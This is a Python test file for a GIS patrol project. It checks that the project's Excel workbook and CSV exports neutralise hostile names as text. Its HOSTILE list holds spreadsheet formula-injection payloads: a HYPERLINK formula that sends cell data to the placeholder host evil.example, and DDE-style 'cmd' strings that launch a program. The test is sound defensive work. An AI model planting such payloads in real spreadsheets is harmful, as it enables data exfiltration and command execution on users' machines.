"""A hostile name never becomes a spreadsheet formula.

A planner names a grid ``=HYPERLINK("http://evil.example/?"&A1, "点击查看")``, a camera file carries a camera called
``@SUM(1+1)``: the assessment workbook (网格员考核表) and the CSV-for-Excel export must hand them to Excel as text.
openpyxl writes any string that starts with ``=`` as a formula, and Excel runs ``= + - @`` at the start of a CSV
cell, so both writers have to say otherwise. The XLSX is read back as XML (no ``<f>`` element anywhere) and with
openpyxl (the name as it was); the CSV is read back cell by cell.
"""
from __future__ import annotations

import csv
import zipfile

import geopandas as gpd
import shapely

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _report(names: list[str]) -> dict:
    grid = {"required_m": 1200.0, "covered_m": 600.0, "covered_share": 0.5, "distance_m": 1500.0, "time_in_grid_s": 1800.0,
            "stops": 1, "shifts_done": 1, "shifts_missed": 0, "shifts_pending": 0}
    return {
        "worker": names[0], "from": "2026-11-01", "to": "2026-11-30", "tz": "Asia/Shanghai", "covered_share": 0.5,
        "grids": [dict(grid, code=f"5101040010{i:02d}", name=n,
                       shifts=[{"shift": 1, "route_id": i + 1, "required_m": 1200.0, "best_share": 0.5, "done": 1}])
                  for i, n in enumerate(names)],
        "tracks": [], "schedule": [],
    }


def test_the_assessment_workbook_holds_hostile_names_as_text(tmp_path):
    from gridpatrol.gis.assessment_sheet import write_xlsx
    from openpyxl import load_workbook

    path = write_xlsx(_report(HOSTILE), tmp_path / "kh.xlsx")
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    ws = load_workbook(path)["考核表"]
    names = [ws.cell(r, 2).value for r in range(4, 4 + len(HOSTILE))]
    assert names == [h.replace("\r", "\n") for h in HOSTILE]  # text as typed (XML reads a CR as a line feed)
    assert all(ws.cell(r, 2).data_type == "s" for r in range(4, 4 + len(HOSTILE)))
    assert HOSTILE[0] in ws["A2"].value  # the worker's name in the subtitle


def test_the_csv_for_excel_puts_an_apostrophe_before_formula_text(tmp_path):
    from gridpatrol.layers.export_formats import write_csv_wkt

    n = len(HOSTILE)
    gdf = gpd.GeoDataFrame({"name": HOSTILE + ["网格-1", "普通"], "value": [-1.5] * n + [2.0, 3.0],
                            "code": ["-0012"] * n + ["5101", None]},
                           geometry=shapely.points([[104.0 + i * 1e-3, 30.6] for i in range(n + 2)]), crs=4326)
    path = tmp_path / "grids.csv"
    write_csv_wkt(gdf, path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows] == ["'" + h for h in HOSTILE] + ["网格-1", "普通"]
    assert [r["code"] for r in rows] == ["'-0012"] * n + ["5101", ""]
    # numbers stay numbers: a negative value is not text and gets no apostrophe
    assert [float(r["value"]) for r in rows] == [-1.5] * n + [2.0, 3.0]
    assert all(not r["WKT"].startswith("'") for r in rows)
